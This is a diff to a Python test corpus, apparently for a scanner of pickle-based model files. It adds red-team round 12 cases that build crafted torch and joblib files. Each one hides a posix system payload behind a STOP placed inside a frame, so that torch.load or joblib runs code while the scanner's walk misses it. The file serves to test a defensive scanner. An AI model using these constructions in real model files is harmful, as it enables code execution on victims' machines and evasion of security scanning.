@@ -511,6 +511,7 @@ def malicious_cases() -> list[Case]:
     cases.extend(round7_cases())  # red team round 7 (block at the end of this file)
     cases.extend(round8_cases())  # red team round 8 (block at the end of this file)
     cases.extend(round11_cases())  # red team round 11 (block at the end of this file)
+    cases.extend(round12_cases())  # red team round 12 (block at the end of this file)
     cases.extend(template_round7_cases())  # red team round 7 on chat templates (block at the end of this file)
     cases.extend(template_round8_cases())  # red team round 8 on chat templates (block at the end of this file)
     cases.extend(template_round9_cases())  # red team round 9 on chat templates (block at the end of this file)
@@ -1241,3 +1242,77 @@ def template_round11_cases() -> list[Case]:
              "WW-TPL-002", "model.gguf", _gguf_template(TEMPLATE_ROUND11_B4.encode()), chat=TEMPLATE_ROUND11_CHAT),
     ]
 # ======== END red team round 11 on chat templates =======================================================
+
+
+# ======== BEGIN red team round 12 on the scanner's readers (helper rdfix12) ==============================
+# A: a STOP inside a frame with bytes after it (no pickler writes one). torch.load(path) reads a buffered file
+# and its C unpickler goes on right after STOP; the walk went on at the frame end and walked ONE program from
+# STOP, dropped when it named nothing: a benign sys_info program there hid the payload after it.
+# B: joblib reads an object array's data with pickle._Unpickler, which reads the whole frame that holds STOP
+# and leaves the outer stream at the frame end; the walk went on at STOP (a BINBYTES over the payload).
+# C (text INT '0100' octal to the C unpickler) corrupts memory rather than running code: tests/test_scan_round12.py.
+
+_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
+
+
+def _p2(value: object) -> bytes:
+    import pickle
+
+    return pickle.dumps(value, protocol=2)
+
+
+def _framed(body: bytes) -> bytes:
+    return b"\x80\x04\x95" + len(body).to_bytes(8, "little") + body
+
+
+def legacy_stop_chain(fork_twice: bool = False) -> bytes:
+    """Legacy torch: magic; PROTO 4 FRAME [M 1001; STOP; gap]; the gap is a benign sys_info, the payload and a key
+    list (what torch.load(path) runs); after the frame a benign sys_info, main and key list (the frame-end chain).
+    ``fork_twice``: the gap's sys_info is itself framed with its STOP inside the frame (a fork inside the fork)."""
+    sysinfo = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
+    payload = b"\x80\x02" + _SYSTEM + b"." + _p2([])
+    if fork_twice:
+        gap = _framed(_p2(sysinfo)[2:] + payload) + _p2({"w": 2}) + _p2([])
+    else:
+        gap = _p2(sysinfo) + payload
+    after = _p2(sysinfo) + _p2({"w": 1}) + _p2([])
+    return _p2(_LEGACY_MAGIC) + _framed(b"M\xe9\x03." + gap) + after
+
+
+def joblib_frame_end() -> bytes:
+    """joblib.dump's own file of an object array; the inner pickle's frame extended by 'B <len X>', then X (the
+    payload) and POP, SETITEM, STOP: joblib runs X, a walk that goes on at the inner STOP sees BINBYTES."""
+    import joblib
+    import numpy as np
+
+    out = io.BytesIO()
+    joblib.dump({"a": np.array([1, "x"], dtype=object)}, out)
+    data = out.getvalue()
+    i = data.index(b"\x80\x05\x95")
+    flen = int.from_bytes(data[i + 3 : i + 11], "little")
+    body = data[i + 11 : i + 11 + flen]
+    assert body.endswith(b".") and data[i + 11 + flen :] == b"s."
+    payload = b"cposix\nsystem\n(S'" + SHELL.encode() + b"'\ntR"
+    inner = body + b"B" + len(payload).to_bytes(4, "little")
+    return data[:i] + _framed(inner).replace(b"\x80\x04", b"\x80\x05", 1) + payload + b"0s."
+
+
+def round12_cases() -> list[Case]:
+    """The round-12 classes A and B that run code (C corrupts memory instead: tests/test_scan_round12.py)."""
+    jl = joblib_frame_end()
+    return [
+        Case("round12_legacy_stop_chain", "4",
+             "legacy torch: STOP inside a frame; torch.load(path) goes on after STOP: a benign sys_info, then the "
+             "payload as the main program", "torch", CRIT, "stop_chain.pt", legacy_stop_chain()),
+        Case("round12_legacy_stop_chain_fork", "4",
+             "the same with the gap's sys_info forking again (STOP inside its own frame)", "torch", CRIT,
+             "stop_chain_fork.pt", legacy_stop_chain(fork_twice=True)),
+        Case("round12_joblib_frame_end", "4",
+             "joblib object array whose inner pickle ends inside a frame: joblib goes on at the frame end, on the "
+             "payload", "joblib", CRIT, "frame_end.joblib", jl),
+        Case("round12_joblib_frame_end_zlib", "4", "the same, zlib-compressed joblib", "joblib", CRIT,
+             "frame_end.joblib.z", zlib.compress(jl)),
+        Case("round12_joblib_frame_end_gz", "4", "the same, gzip-compressed joblib", "joblib", CRIT,
+             "frame_end.joblib.gz", gzip.compress(jl, mtime=0)),
+    ]
+# ======== END red team round 12 =========================================================================
